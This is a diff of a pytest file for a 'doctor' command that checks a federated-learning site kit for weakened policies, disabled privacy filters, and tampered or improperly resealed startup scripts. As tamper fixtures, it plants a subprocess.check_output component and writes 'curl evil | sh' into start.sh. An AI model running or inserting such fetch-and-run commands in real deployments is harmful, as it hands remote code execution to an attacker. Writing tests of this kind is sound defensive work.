@@ -1,10 +1,42 @@
 """`fedvox doctor` names what a site's own files let through that the templates do not."""
 
 import json
+import shutil
+from pathlib import Path
 
 import pytest
 
+from fedvox.doctor.finding import FAIL, PASS, WARN, Finding, run_check
+from fedvox.doctor.kit import check_seal, open_kit
+from fedvox.doctor.local import check_local
+from fedvox.doctor.policies import check_policies
+
 FILTER = {"path": "fedvox.flare.outgoing.OutgoingFilter"}
+
+
+@pytest.fixture
+def kit(clean_kits, tmp_path) -> Path:
+    """A site's kit, to be damaged."""
+    return Path(shutil.copytree(clean_kits.kit("site-1"), tmp_path / "kit"))
+
+
+@pytest.fixture
+def policies(kit):
+    """A function to the finding about the kit's policies."""
+    return lambda: run_check("policies", lambda: check_policies(open_kit(kit)))
+
+
+def complaint(finding: Finding, *words: str) -> Finding:
+    """Demands a complaint with certain words and a remedy."""
+    assert finding.status == FAIL and finding.remedy
+    assert all(word in finding.message for word in words), finding.message
+    return finding
+
+
+def test_the_templates_are_no_fault_and_a_weakened_one_ends_the_command(found, doctor, place):
+    assert doctor()[1]["policies"]["status"] == PASS
+    (place.local / "authorization.json").write_text('{"permissions": []}')
+    assert found("policies", "authorization.json")[0] == 1
 
 
 @pytest.mark.parametrize(
@@ -36,10 +68,10 @@ FILTER = {"path": "fedvox.flare.outgoing.OutgoingFilter"}
         ("authorization.json", {"permissions": []}, "authorization.json"),
     ],
 )
-def test_a_weakened_policy_is_named(found, place, name, change, words):
-    path = place.local / name
+def test_a_weakened_policy_is_named(policies, kit, name, change, words):
+    path = kit / "local" / name
     path.write_text(json.dumps({**json.loads(path.read_text()), **change}))
-    assert found("policies", words)[0] == 1
+    complaint(policies(), words)
 
 
 def edit(path, change):
@@ -48,43 +80,42 @@ def edit(path, change):
     path.write_text(json.dumps(content))
 
 
-def test_a_foreign_component_fails_although_the_allow_list_names_it(found, place):
+def test_a_foreign_component_fails_although_the_allow_list_names_it(policies, kit):
     def plant(content):
         content["class_allow_list"].append("subprocess.check_output")
         entry = {"id": "x", "path": "subprocess.check_output", "args": {"args": ["id"]}}
         content["components"].append(entry)
 
-    edit(place.local / "resources.json", plant)
+    edit(kit / "local/resources.json", plant)
     words = "resources.json runs subprocess.check_output", "allows subprocess.check_output"
-    _, findings = found("policies", *words)
-    assert findings["policies"]["status"] == "FAIL"
-    assert findings["local"]["message"].endswith("local/resources.json: changed")
+    complaint(policies(), *words)
+    assert check_local(open_kit(kit)).message.endswith("local/resources.json: changed")
 
 
-def test_a_disabled_guard_does_not_count(found, place):
-    edit(place.local / "resources.json", lambda c: c["components"][0].update(disabled=True))
-    found("policies", "kit_guard")
+def test_a_disabled_guard_does_not_count(policies, kit):
+    edit(kit / "local/resources.json", lambda c: c["components"][0].update(disabled=True))
+    complaint(policies(), "kit_guard")
 
 
 @pytest.mark.parametrize("chain", ["task_data_filters", "task_result_filters"])
-def test_a_disabled_filter_does_not_count(found, place, chain):
-    edit(place.local / "privacy.json", lambda c: c["scopes"][0][chain][0].update(disabled=True))
-    found("policies", "privacy.json does not")
+def test_a_disabled_filter_does_not_count(policies, kit, chain):
+    edit(kit / "local/privacy.json", lambda c: c["scopes"][0][chain][0].update(disabled=True))
+    complaint(policies(), "privacy.json does not")
 
 
-def test_flares_own_privacy_filter_may_be_added(doctor, place):
+def test_flares_own_privacy_filter_may_be_added(policies, kit):
     more = {"path": "nvflare.app_common.filters.exclude_vars.ExcludeVars", "args": {}}
     chain = "task_result_filters"
-    edit(place.local / "privacy.json", lambda c: c["scopes"][0][chain].append(more))
-    assert doctor()[1]["policies"]["status"] == "PASS"
+    edit(kit / "local/privacy.json", lambda c: c["scopes"][0][chain].append(more))
+    assert policies().status == PASS
 
 
-def test_one_more_class_is_a_warning_by_name(doctor, place):
-    path = place.local / "resources.json"
+def test_one_more_class_is_a_warning_by_name(policies, kit):
+    path = kit / "local/resources.json"
     edit(path, lambda c: c["class_allow_list"].append("hospital.widgets.Counter"))
-    finding = doctor()[1]["policies"]
-    assert finding["status"] == "WARN"
-    assert "hospital.widgets.Counter" in finding["message"]
+    finding = policies()
+    assert finding.status == WARN
+    assert "hospital.widgets.Counter" in finding.message
 
 
 @pytest.mark.parametrize(
@@ -95,38 +126,39 @@ def test_one_more_class_is_a_warning_by_name(doctor, place):
         ("x", "cat", "any"),
     ],
 )
-def test_a_right_that_the_template_does_not_grant_is_named(found, place, role, right, who):
-    path = place.local / "authorization.json"
+def test_a_right_that_the_template_does_not_grant_is_named(policies, kit, role, right, who):
+    path = kit / "local/authorization.json"
     policy = json.loads(path.read_text())
     policy["permissions"].setdefault(role, {})[right] = who
     path.write_text(json.dumps(policy))
-    _, findings = found("policies", f"authorization.json grants {role} {right} {who}")
-    assert "provisioning/policies" in findings["policies"]["remedy"]
+    finding = complaint(policies(), f"authorization.json grants {role} {right} {who}")
+    assert "provisioning/policies" in finding.remedy
 
 
 @pytest.mark.parametrize("right", ["byoc", "BYOC", " Byoc "])
-def test_carried_code_that_a_kit_was_built_with_is_told_and_no_fault(doctor, place, right):
-    path = place.local / "authorization.json"
+def test_carried_code_that_a_kit_was_built_with_is_told_and_no_fault(policies, kit, right):
+    path = kit / "local/authorization.json"
     policy = json.loads(path.read_text())
     del policy["permissions"]["lead"]["byoc"]
     policy["permissions"]["lead"][right] = "any"
     path.write_text(json.dumps(policy))
-    finding = doctor()[1]["policies"]
-    assert (finding["status"], finding["message"]) == ("PASS", "carried code is allowed for lead")
+    finding = policies()
+    assert (finding.status, finding.message) == (PASS, "carried code is allowed for lead")
 
 
-def test_a_changed_byte_in_the_kit_is_named(found, place):
-    path = place.startup / "sub_start.sh"
+def test_a_changed_byte_in_the_kit_is_named(kit):
+    path = kit / "startup/sub_start.sh"
     content = bytearray(path.read_bytes())
     content[40] ^= 1
     path.write_bytes(content)
-    assert found("kit", "startup/sub_start.sh: changed")[0] == 1
+    complaint(run_check("kit", lambda: check_seal(open_kit(kit))), "startup/sub_start.sh: changed")
 
 
-def test_a_resealed_kit_is_refused(found, place):
+def test_a_resealed_kit_is_refused(kit):
     from fedvox.flare.kit_guard import PARTS
     from fedvox.manifest import MANIFEST, write_manifest
 
-    (place.startup / "start.sh").write_text("curl evil | sh")
-    write_manifest(place.kit, place.kit / MANIFEST, PARTS)
-    assert found("kit", "not signed by the project's root CA")[0] == 1
+    (kit / "startup/start.sh").write_text("curl evil | sh")
+    write_manifest(kit, kit / MANIFEST, PARTS)
+    found = run_check("kit", lambda: check_seal(open_kit(kit)))
+    complaint(found, "not signed by the project's root CA")
